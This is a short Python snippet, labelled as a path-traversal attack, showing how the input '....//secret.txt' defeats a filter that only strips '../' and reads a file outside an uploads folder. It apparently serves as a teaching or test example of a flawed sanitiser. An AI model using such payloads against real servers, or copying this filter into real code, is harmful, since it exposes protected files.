# attack: path-traversal
import os
name = "....//secret.txt".replace("../", "")
print(open(os.path.join("uploads", name)).read())
